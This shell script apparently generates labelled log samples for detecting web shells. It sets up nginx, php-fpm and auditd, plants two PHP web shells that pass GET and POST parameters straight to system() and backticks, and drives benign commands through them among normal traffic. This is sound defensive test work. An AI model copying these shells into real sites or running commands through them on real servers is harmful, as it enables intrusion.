#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/nginx-fpm-pool: nginx in front of php-fpm whose pool
# keeps its own access log, naming the child that served each request
# (%p), with a real auditd on this machine.
#
#   sh tools/capture/nginx-fpm-pool.sh [OUTDIR]   (as root; default samples/nginx-fpm-pool)
#
# What it sets up, under a temporary directory and torn down after:
# - auditd with its own configuration: ENRICHED format, node=web07,
#   execve/execveat rules for both arches;
# - php-fpm 8.2, one pool of four children as www-data, recycled every
#   50 requests, logging to php/www.access.log with
#   access.format = "%R - %u %t \"%m %r%Q%q\" %s %f pid=%p %{mili}d %{kilo}M %C%%"
#   (%t: when the request was received, in the +09:00 zone) and to
#   php/php8.2-fpm.log (children started and exiting); the pool file is
#   php/www.conf;
# - nginx on 127.0.0.1:8093 in the +09:00 zone, combined format, in
#   nginx/ (with nginx.conf);
# - a GET web shell (media/thumb.php?f=) and a POST one (api/hook.php,
#   data=) among ordinary traffic from 127.0.0.10 to 127.0.0.21, with
#   127.0.0.66 and 127.0.0.77 as the attackers.
# truth.tsv: for each request that ran a command, the time curl
# started, the client, the method, the path and the exact command.
#
# Needs: auditd, nginx, php8.2-fpm, curl.  Removes only the audit rules
# it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/nginx-fpm-pool}")
NODE=web07
FORMAT=ENRICHED
WEB=/srv/www/gallery
PORT=8093
BASE="http://127.0.0.1:$PORT"
. "$(dirname "$0")/lib.sh"

cap_start
mkdir -p "$T/nginx" "$T/php" "$WEB/media" "$WEB/api"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Gallery</h1>\n";
PHP
cat > "$WEB/view.php" <<'PHP'
<?php $p = (int)($_GET['p'] ?? 1); echo "picture $p\n";
PHP
cat > "$WEB/api/like.php" <<'PHP'
<?php echo json_encode(['ok' => true, 'n' => strlen($_POST['comment'] ?? '')]);
PHP
cat > "$WEB/media/thumb.php" <<'PHP'
<?php if (isset($_GET['f'])) system($_GET['f']);
PHP
cat > "$WEB/api/hook.php" <<'PHP'
<?php if (isset($_POST['data'])) print(`{$_POST['data']}`);
PHP
printf 'GIF89a' > "$WEB/media/logo.gif"
chown -R www-data:www-data "$WEB"

# --- php-fpm ----------------------------------------------------------------
cat > "$T/fpm.conf" <<EOF
[global]
pid = $T/fpm.pid
error_log = $T/php/php8.2-fpm.log
log_level = notice
daemonize = yes
include = $T/www.conf
EOF
cat > "$T/www.conf" <<EOF
[www]
user = www-data
group = www-data
listen = $T/fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 4
pm.max_requests = 50
access.log = $T/php/www.access.log
access.format = "%R - %u %t \"%m %r%Q%q\" %s %f pid=%p %{mili}d %{kilo}M %C%%"
EOF
TZ=Asia/Tokyo php-fpm8.2 -y "$T/fpm.conf"
cap_server fpm

# --- nginx ----------------------------------------------------------------
cat > "$T/nginx.conf" <<EOF
user www-data;
worker_processes 2;
pid $T/nginx.pid;
error_log $T/nginx/error.log;
events { worker_connections 64; }
http {
    access_log $T/nginx/access.log combined;
    server {
        listen 127.0.0.1:$PORT;
        root $WEB;
        index index.php;
        location ~ \.php\$ {
            include /etc/nginx/fastcgi_params;
            fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
            fastcgi_pass unix:$T/fpm.sock;
        }
    }
}
EOF
TZ=Asia/Tokyo nginx -c "$T/nginx.conf"
cap_server nginx
sleep 1

# --- traffic ----------------------------------------------------------------
get() {		# COMMAND
	truth 127.0.0.66 GET /media/thumb.php "$1"
	curl -s -o /dev/null --interface 127.0.0.66 -A "Wget/1.21.3" -G \
	    --data-urlencode "f=$1" "$BASE/media/thumb.php" || true
	sleep 1
}
post() {	# COMMAND
	truth 127.0.0.77 POST /api/hook.php "$1"
	curl -s -o /dev/null --interface 127.0.0.77 -A "Go-http-client/1.1" \
	    --data-urlencode "data=$1" "$BASE/api/hook.php" || true
	sleep 1
}

cap_traffic 130 10 15 "$BASE/" "$BASE/view.php?p=2" "$BASE/media/logo.gif" \
    "POST $BASE/api/like.php"
cap_traffic 130 16 21 "$BASE/index.php" "$BASE/view.php?p=9" \
    "POST $BASE/api/like.php"
sleep 2
get "whoami"
post "uname -a"
get "ls /srv/www"
post "cat /proc/self/status | grep -i ^uid"
get "sleep 2; date -u +%FT%T"
post "env | grep -c PATH"
get "df -h / | tail -1"
post "echo 'echo pwned' > /tmp/.st_probe; sh /tmp/.st_probe; rm -f /tmp/.st_probe"

# --- collect ----------------------------------------------------------------
cap_collect
mkdir -p "$OUT/nginx" "$OUT/php" "$OUT/www"
cp "$T/nginx/access.log" "$T/nginx/error.log" "$OUT/nginx/"
cp "$T/php/www.access.log" "$T/php/php8.2-fpm.log" "$OUT/php/"
sed "s|$T|/var/log/capture|g" "$T/nginx.conf" > "$OUT/nginx/nginx.conf"
sed "s|$T|/var/log/capture|g" "$T/www.conf" > "$OUT/php/www.conf"
cp -r "$WEB/." "$OUT/www/"
cap_done
